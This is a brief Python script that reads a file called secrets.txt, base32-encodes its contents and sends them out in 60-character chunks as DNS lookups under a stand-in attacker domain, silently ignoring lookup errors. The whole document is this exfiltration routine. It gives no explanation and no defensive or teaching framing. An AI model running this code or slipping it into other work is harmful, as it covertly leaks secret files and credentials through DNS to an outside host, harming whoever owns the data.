import base64, socket
blob = base64.b32encode(open("secrets.txt", "rb").read()).decode().rstrip("=")
for i in range(0, len(blob), 60):
    try:
        socket.gethostbyname(f"{blob[i:i+60]}.x.attacker.example")
    except OSError:
        pass
